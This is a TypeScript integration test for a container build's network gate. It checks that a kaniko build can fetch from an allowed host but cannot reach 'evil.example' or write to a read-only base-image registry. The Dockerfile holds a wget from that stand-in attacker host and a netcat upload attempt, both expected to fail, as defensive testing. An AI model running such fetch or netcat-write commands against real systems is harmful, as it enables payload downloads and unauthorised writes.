import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { mkdtempSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { builders } from "../../src/builders/index.ts";
import { DEFAULT_LIMITS, type Job, type JobResult } from "../../src/domain/job.ts";
import { createEngineExecutor, type EngineExecutor } from "../../src/executors/engine.ts";
import { createDownloadCache } from "../../src/network/download-cache.ts";
import { egressTo, type Egress } from "../../src/network/egress.ts";
import { gatedJob } from "../../src/trials/gated-job.ts";
import { loadImageSource } from "../../src/trials/image-source.ts";
import { runTrial } from "../../src/trials/run-trial.ts";
import { forkSpec, trialSpec } from "../../src/trials/trial-spec.ts";
import { STRATEGIES } from "../contracts/strategies.ts";
import { openLiveTestbed, type LiveTestbed } from "./live-testbed.ts";

const MIB = 1024 ** 2;
/** A server that stands for one of the public internet. */
const OUTSIDE = "127.0.0.9";
const never = new AbortController().signal;

let live: LiveTestbed;
let executor: EngineExecutor;
let egress: Egress;
let asked: string[] = [];
const outside = createServer((request, response) => {
  asked.push(`${request.method} ${request.headers.host}${request.url}`);
  response.end("payload of the outside\n");
});
let port = 0;

beforeAll(async () => {
  live = await openLiveTestbed();
  outside.listen(0, OUTSIDE);
  await once(outside, "listening");
  port = (outside.address() as AddressInfo).port;
  egress = egressTo([`good.example:${port}`], {
    allowsAddress: (_host, address) => address === OUTSIDE,
    resolve: (_host, _options, callback) => callback(null, [{ address: OUTSIDE, family: 4 }]),
  });
  const holderImage = live.testbed.tools.registry.image;
  executor = createEngineExecutor(live.testbed.engine, undefined, { egress, holderImage });
});

afterAll(async () => {
  outside.close();
  await live?.close();
});

const lines = ({ log }: JobResult) => log.map(({ line }) => line);

describe("kaniko behind the gate", () => {
  it("pulls its base, downloads from a listed host, pushes, and cannot write where others start from", async () => {
    asked = [];
    const directory = mkdtempSync(join(tmpdir(), "tare-gate-"));
    const { allowsHost, allowsAddress, resolve } = egress;
    const downloads = await createDownloadCache({
      directory,
      allowHost: allowsHost,
      allow: allowsAddress,
      resolve,
    });
    const registry = await live.startRegistry("live-gate");
    try {
      const [address, at] = (live.baseHost ?? "").split(":");
      const write = `printf 'POST /v2/library/busybox/blobs/uploads/ HTTP/1.0\\r\\n\\r\\n' | nc -w 3 ${address} ${at} | grep -q ' 403 '`;
      const dockerfile = [
        "FROM docker.io/library/busybox:1.36",
        `RUN wget -q -O /payload http://good.example:${port}/payload`,
        `RUN ! wget -q -T 3 -O /leak http://evil.example:${port}/payload`,
        `RUN ${write}`,
        "",
      ].join("\n");
      const build = kanikoBuild(registry.host, downloads.address, dockerfile);
      const { job } = builders.kaniko.job(build);
      const result = await executor.run(gatedJob(job, build, null), never);
      expect(lines(result).slice(-5).join("\n")).not.toMatch(/error/i);
      expect(result.outcome).toBe("succeeded");
      expect(asked).toStrictEqual([`GET good.example:${port}/payload`]);
      expect((await registry.client.manifest("app", "latest"))?.manifest.layers.length).toBeGreaterThan(1);
    } finally {
      await downloads.close();
      await registry.remove();
      rmSync(directory, { recursive: true });
    }
  });

  function kanikoBuild(host: string, proxy: string, dockerfile: string) {
    const projectDirectory = "/builds/group/project";
    const path = `${projectDirectory}/Dockerfile`;
    return {
      name: `gate-${process.pid}-kaniko`,
      recipe: STRATEGIES["kaniko/none"],
      images: [`${host}/app:latest`],
      cacheFrom: [],
      cacheTo: [],
      pulls: [],
      files: [{ kind: "file", path, content: Buffer.from(dockerfile), executable: false } as const],
      projectDirectory,
      dockerfile: path,
      context: projectDirectory,
      registryHost: host,
      credentials: null,
      mirrors: live.mirrors,
      proxy,
      image: live.testbed.tools.builders.kaniko?.image ?? "",
      limits: { ...DEFAULT_LIMITS, diskBytes: 512 * MIB, durationMs: 60_000 },
    };
  }
});

describe("a trial of a change that is not trusted", () => {
  it("goes through the gate as a whole: forks, tokens, a cache that is hit", async () => {
    const recipe = STRATEGIES["kaniko/layers"];
    const dockerfile = "FROM docker.io/library/busybox:1.36\nRUN head -c 2000000 /dev/urandom > /first\n";
    const source = await loadImageSource(recipe, ["last"], {
      read: (path) => (path === recipe.dockerfile ? dockerfile : null),
      readContext: async () => [],
      versions: [],
    });
    const options = {
      limits: { ...DEFAULT_LIMITS, diskBytes: 512 * MIB, durationMs: 60_000 },
      moreMemoryBytes: null,
      context: { projectPath: "group/project", branch: "main" },
      images: { kaniko: live.testbed.tools.builders.kaniko?.image ?? "" },
      mirrors: live.mirrors,
      bases: new Map([["docker.io/library/busybox:1.36", { digest: null, diffIds: live.base.diffIds }]]),
      proxy: null,
      forks: ["readable"],
      network: "gated",
    } as const;
    const name = `gate-${process.pid}-${randomBytes(3).toString("hex")}`;
    const ran: Job[] = [];
    const record = await runTrial(
      trialSpec(name, source, forkSpec(name, source, options), options),
      {
        run: (job, signal) => {
          ran.push(job);
          return executor.run(job, signal);
        },
        onRun: () => {},
        missedDownloads: () => false,
        monotonicMs: () => performance.now(),
        startRegistry: (of) => live.startRegistry(of, "contributor"),
      },
      never,
    );
    expect(record.runs.map(({ scenario, result }) => [scenario, result.outcome])).toStrictEqual([
      ["cold", "succeeded"],
      ["warm", "succeeded"],
      ["edit 1", "succeeded"],
    ]);
    expect(record.runs[1]?.misses).toBe(0);
    const forks = record.forks.flatMap(({ runs }) => runs);
    expect(forks.map(({ result }) => result.outcome)).toStrictEqual(["succeeded", "succeeded"]);
    expect(ran.map(({ network }) => network)).toStrictEqual(ran.map(() => "gated"));
    // The registry, its token server, and the registry of base images, which is only read.
    for (const { services = [] } of ran)
      expect(services.map(({ readOnly }) => readOnly)).toStrictEqual([false, false, true]);
  });
});
